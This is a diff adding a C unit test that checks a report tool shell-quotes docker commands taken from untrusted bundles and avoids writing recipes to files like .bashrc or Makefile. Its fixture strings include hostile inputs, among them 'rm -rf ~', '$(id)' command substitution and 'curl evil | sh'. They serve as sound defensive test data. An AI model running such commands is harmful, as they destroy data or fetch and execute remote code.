@@ -572,6 +572,43 @@ TEST(recipe_of_a_bundle_by_its_plain_name)
     rp_rows_fini(&rows);
 }
 
+/* What a bundle says of its commands is words, and no shell finds more in them; the recipe is written to no file that something runs. */
+TEST(commands_of_a_stranger)
+{
+    static const char *const cases[][3] = {
+        /* captured, shown; recipe_name */
+        {"docker run --shm-size=1g -v 'a b:/c' img", "    docker run --shm-size=1g -v 'a b:/c' img\n", "r.yaml"},
+        {"docker run img; rm -rf ~", "    docker run 'img;' rm -rf '~'\n", "r.yaml"},
+        {"docker run $(id) `id` a>b a|b a&b", "    docker run '$(id)' '`id`' 'a>b' 'a|b' 'a&b'\n", "r.yaml"},
+        {"docker run 'it'\\''s' \\$x", "    docker run 'it'\\''s' '$x'\n", "r.yaml"},
+        {"docker run 'open", "    'docker run '\\''open'\n", "r.yaml"},
+        {"curl evil | sh", "    'curl evil | sh'\n", "r.yaml"},
+        {"docker runs x", "    'docker runs x'\n", "r.yaml"},
+        {"```", "    '```'\n", "r.yaml"},
+        {"", "    ''\n", "r.yaml"},
+        {"docker run a", " > bashrc.yaml\n", ".bashrc"},
+        {"docker run a", " > Makefile.yaml\n", "Makefile"},
+        {"docker run a", " > 'a b;c.yaml'\n", "x/a b;c"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+        struct rp_rows rows = {0};
+        struct rp_doc d = {0};
+        RP_BUF text = {0}, markdown = {0};
+        struct rp_result *row = rp_rows_add(&rows);
+        row->source.kind = RP_RESULT_BUNDLE;
+        row->source.file = rp_strdup("a.zst");
+        row->run = json_pack("{s:s}", "recipe_name", cases[i][2]);
+        row->environment = json_pack("{s:{s:{s:{s:s, s:s}}}}", "probes", "launch", "command", "state", "ok", "value", cases[i][0]);
+        rp_layout_paddle(&d, &rows);
+        rp_doc_write(&text, &d, RP_DOC_TEXT);
+        rp_doc_write(&markdown, &d, RP_DOC_MD);
+        CHECK(strstr(rp_buf_text(&text), cases[i][1]), "case %zu: %s", i, rp_buf_text(&text));
+        CHECK(strstr(rp_buf_text(&markdown), cases[i][1]), "case %zu: %s", i, rp_buf_text(&markdown));
+        rp_doc_fini(&d);
+        rp_rows_fini(&rows);
+    }
+}
+
 /* In a narrow terminal no line is wider than it, no figure is lost, and what was cut is said. */
 TEST(tables_keep_to_the_width)
 {
